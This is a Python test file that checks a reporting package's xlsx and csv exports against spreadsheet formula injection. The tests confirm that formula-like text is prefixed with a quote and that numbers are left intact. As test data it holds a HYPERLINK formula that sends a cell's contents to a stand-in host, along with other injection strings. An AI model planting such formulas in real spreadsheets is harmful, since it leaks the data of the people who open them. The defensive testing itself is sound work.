"""Formula injection: text cells that a spreadsheet would run are neutralised in every export,
numbers stay numbers (no fit needed: a hand-made report)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from mixwise.report import Report, export_tables
from mixwise.report.cells import FORMULA_STARTS, neutralise, safe_frame
from mixwise.report.model import Section, Table

EVIL = '=HYPERLINK("http://x.example/?q="&A1,"go")'


def _report() -> Report:
    frame = pd.DataFrame(
        {
            "channel": [EVIL, "+1 555", "-cmd", "@SUM(A1)", "\tTV", "\rradio", "TV", None],
            EVIL: [1.5, -2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
            "count": [-1, 2, 3, 4, 5, 6, 7, 8],
        }
    )
    table = Table("contributions", "Contributions", frame)
    section = Section("s", "S", (table,))
    return Report("t", "s", (section,), approximate=False, interval=0.9, generated_at="now")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_neutralise_prefixes_text_only(start: str) -> None:
    assert neutralise(f"{start}x") == f"'{start}x"
    assert neutralise("TV") == "TV" and neutralise(-3) == -3 and neutralise(-3.5) == -3.5


def test_safe_frame_keeps_numbers(tmp_path: Path) -> None:
    frame = safe_frame(_report().tables[0].frame)
    assert frame.columns[1] == "'" + EVIL
    assert frame["count"].dtype.kind == "i" and frame.iloc[:, 1].dtype.kind == "f"
    assert frame["channel"].isna().iloc[-1]


def test_xlsx_export_has_no_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = export_tables(_report(), tmp_path / "r.xlsx", "xlsx")
    sheet = load_workbook(path)["contributions"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert sheet["B1"].value == "'" + EVIL
    assert sheet["B3"].value == -2.0 and sheet["C2"].value == -1  # negative numbers untouched


def test_csv_export_has_no_formula_looking_cell(tmp_path: Path) -> None:
    folder = export_tables(_report(), tmp_path / "tables", "csv")
    with (folder / "contributions.csv").open(newline="") as fh:
        rows = list(csv.reader(fh))
    text = [c for row in rows for c in row[:2] if not _is_number(c)]
    assert len(text) == 11 and not [c for c in text if c.startswith(FORMULA_STARTS)]
    assert rows[0][1] == "'" + EVIL and rows[2][1] == "-2.0" and rows[1][2] == "-1"
